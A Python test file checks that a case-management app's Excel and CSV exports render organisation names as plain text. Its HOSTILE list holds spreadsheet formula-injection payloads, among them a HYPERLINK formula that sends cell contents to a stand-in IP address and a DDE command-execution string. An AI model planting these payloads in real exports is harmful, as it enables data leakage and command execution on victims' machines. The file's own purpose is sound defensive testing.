"""No export carries a formula, whatever somebody has called an organisation."""

import csv
import io
from dataclasses import replace
from decimal import Decimal

import openpyxl
import pytest

from caseapp.reports.annual.data import workbook
from caseapp.reports.export import csv_file, open_workbook, write_cell
from tests.house import tree
from tests.reports.sample import sample_report

HOSTILE = (
    '=HYPERLINK("http://192.0.2.1/?"&A1,"镜湖区法律援助中心")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
)
PLAIN = ("示例律师事务所", "a=b", "2025-01-01", "3-5")


@pytest.mark.parametrize("name", HOSTILE)
def test_the_report_s_workbook_shows_a_hostile_name_as_text(name: str) -> None:
    book = openpyxl.load_workbook(io.BytesIO(workbook(replace(sample_report(), issuer_zh=name))))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink]
    assert any(name.strip() in str(cell.value) for cell in cells)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_cell_is_text(name: str) -> None:
    target = io.BytesIO()
    with open_workbook(target) as book:
        sheet = book.add_worksheet()
        write_cell(sheet, 0, 0, name)
        sheet.write(1, 0, name)  # even past the seam's own function
        write_cell(sheet, 2, 0, Decimal(-3))
    first, second, third = next(openpyxl.load_workbook(target).active.iter_cols())
    assert [first.data_type, second.data_type, third.value] == ["s", "s", -3]


@pytest.mark.parametrize("name", HOSTILE)
def test_csv_puts_an_apostrophe_in_front(name: str) -> None:
    text = csv_file((name, "金额"), [(name, Decimal("-12.50")), (None, 3)]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["'" + name, "金额"], ["'" + name, "-12.50"], ["", "3"]]


@pytest.mark.parametrize("name", PLAIN)
def test_csv_leaves_other_texts_alone(name: str) -> None:
    assert csv_file(("名称",), [(name,)]).decode("utf-8-sig").splitlines()[1] == name


def test_nothing_else_writes_tables() -> None:
    writers = [
        path
        for path in tree.files(".py", under="caseapp/")
        if any(
            word in tree.read(path)
            for word in ("xlsxwriter", "csv.writer", "csv.DictWriter", "openpyxl.Workbook")
        )
    ]
    assert [str(path) for path in writers] == ["caseapp/reports/export.py"]
